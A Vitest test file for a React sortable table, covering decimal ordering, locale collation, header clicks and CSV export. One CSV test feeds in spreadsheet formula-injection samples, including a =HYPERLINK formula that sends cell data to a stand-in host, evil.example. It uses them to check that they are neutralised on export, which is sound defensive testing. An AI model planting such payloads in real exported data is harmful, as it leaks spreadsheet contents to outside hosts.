// @vitest-environment happy-dom
/** The sortable table: exact decimal order, collation, nulls last, header clicks, and the CSV of what it shows. */
import { cleanup, fireEvent, render, screen, within } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { ConsoleProvider } from '../context.js';
import { BOM } from './csv.js';
import { compareKeys, decimalKey, nextSort, sortRows, SortableTable, tableCsv, type Column } from './SortableTable.js';
import { amountColumn, countColumn, textColumn } from '../pages/reports/kit.js';

afterEach(cleanup);

interface Row {
  name: string;
  sum: string | null;
}
const columns: Column<Row>[] = [
  { key: 'name', label: 'Name', sortKey: (r) => r.name },
  { key: 'sum', label: 'Sum', sortKey: (r) => decimalKey(r.sum), csv: (r) => ({ decimal: r.sum }), numeric: true },
];
const rows: Row[] = [
  { name: 'Ёлка', sum: '9.75' },
  { name: 'апельсин', sum: '10.5' },
  { name: 'Банан', sum: null },
  { name: 'Big', sum: '119999999999999.93' },
  { name: 'Bigger', sum: '119999999999999.92' },
];

describe('sorting', () => {
  it('orders amounts as exact decimals, largest first when asked, with a missing amount last either way', () => {
    const down = sortRows(rows, columns, { key: 'sum', direction: 'desc' }, 'en').map((r) => r.name);
    expect(down).toEqual(['Big', 'Bigger', 'апельсин', 'Ёлка', 'Банан']);
    const up = sortRows(rows, columns, { key: 'sum', direction: 'asc' }, 'en').map((r) => r.name);
    expect(up).toEqual(['Ёлка', 'апельсин', 'Bigger', 'Big', 'Банан']);
  });

  it('orders names by the language’s collation, ignoring case', () => {
    const names = sortRows(rows.slice(0, 3), columns, { key: 'name', direction: 'asc' }, 'ru').map((r) => r.name);
    expect(names).toEqual(['апельсин', 'Банан', 'Ёлка']);
  });

  it('compares keys exactly and keeps the given order without a sort', () => {
    expect(compareKeys(decimalKey('0.3'), decimalKey('0.30'), 'en')).toBe(0);
    expect(compareKeys(decimalKey('-1'), decimalKey('0.001'), 'en')).toBe(-1);
    expect(compareKeys(3, 10n, 'en')).toBe(-1);
    expect(decimalKey('abc')).toBeNull();
    expect(sortRows(rows, columns, null, 'en')).toEqual(rows);
  });

  it('sorts a numeric column largest first on the first click and turns on the next', () => {
    expect(nextSort(null, 'sum', true)).toEqual({ key: 'sum', direction: 'desc' });
    expect(nextSort({ key: 'sum', direction: 'desc' }, 'sum', true)).toEqual({ key: 'sum', direction: 'asc' });
    expect(nextSort({ key: 'sum', direction: 'desc' }, 'name', false)).toEqual({ key: 'name', direction: 'asc' });
  });
});

describe('the table on screen', () => {
  function renderTable() {
    const preferences = { getItem: () => 'en', setItem: () => undefined, removeItem: () => undefined };
    const storage = { getItem: () => null, setItem: () => undefined, removeItem: () => undefined };
    render(
      <ConsoleProvider fetch={async () => new Response('{}')} sessionStorage={storage} preferences={preferences}>
        <SortableTable columns={columns} rows={rows} rowKey={(r) => r.name} fileName="test" footer={{ name: 'Total', sum: '120000000000020.1' }} />
      </ConsoleProvider>,
    );
  }
  const bodyNames = () =>
    within(screen.getAllByRole('rowgroup')[1]!)
      .getAllByRole('row')
      .map((row) => row.firstChild?.textContent);

  it('sorts by the clicked header, says so with aria-sort, and keeps the totals row last', () => {
    renderTable();
    fireEvent.click(screen.getByRole('button', { name: /^Sum/ }));
    expect(bodyNames()).toEqual(['Big', 'Bigger', 'апельсин', 'Ёлка', 'Банан']);
    expect(screen.getByRole('columnheader', { name: /^Sum/ }).getAttribute('aria-sort')).toBe('descending');
    fireEvent.click(screen.getByRole('button', { name: /^Name/ }));
    expect(bodyNames()).toEqual(['Big', 'Bigger', 'апельсин', 'Банан', 'Ёлка']);
    expect(screen.getAllByRole('row').at(-1)?.textContent).toContain('Total');
  });
});

describe('the CSV of a table', () => {
  it('exports a column kept off the screen (a phone starting with + kept as text, as Excel would compute it)', () => {
    const withPhone: Column<Row>[] = [...columns, { key: 'phone', label: 'Phone', sortKey: () => '+998 90', csvOnly: true }];
    expect(tableCsv(withPhone, rows.slice(0, 1), undefined, 'en')).toBe(`${BOM}Name,Sum,Phone\r\nЁлка,9.75,'+998 90\r\n`);
  });

  it('neutralises text a spreadsheet would run (an imported item named =HYPERLINK…) and keeps negative amounts and counts numbers', () => {
    interface Line {
      item: string;
      client: string;
      left: string;
      returns: number;
      rank: number;
    }
    const report: Column<Line>[] = [
      textColumn<Line>('item', 'Item', (line) => line.item),
      textColumn<Line>('client', 'Client', (line) => line.client),
      amountColumn<Line>('left', 'Left', (line) => line.left, 'en'),
      countColumn<Line>('returns', 'Returns', (line) => line.returns),
      { key: 'rank', label: 'Rank', numeric: true, sortKey: (line) => line.rank },
    ];
    const lines: Line[] = [
      { item: '=HYPERLINK("http://evil.example/?"&A1,"Tea")', client: '-2', left: '-5.5', returns: -3, rank: -4 },
      { item: '@SUM(1+1)*cmd', client: '+998 90', left: '-5', returns: 0, rank: 1 },
    ];
    expect(tableCsv(report, lines, undefined, 'en').split('\r\n').slice(1, 3)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Tea"")",'-2,-5.5,-3,-4`,
      "'@SUM(1+1)*cmd,'+998 90,-5,0,1",
    ]);
  });

  it('holds the header, the rows in the order shown and the totals last, amounts exact in the language’s way', () => {
    const shown = sortRows(rows.slice(0, 2), columns, { key: 'sum', direction: 'desc' }, 'ru');
    expect(tableCsv(columns, shown, { name: 'Итого', sum: '20.25' }, 'ru')).toBe(`${BOM}Name;Sum\r\nапельсин;10,5\r\nЁлка;9,75\r\nИтого;20,25\r\n`);
  });
});
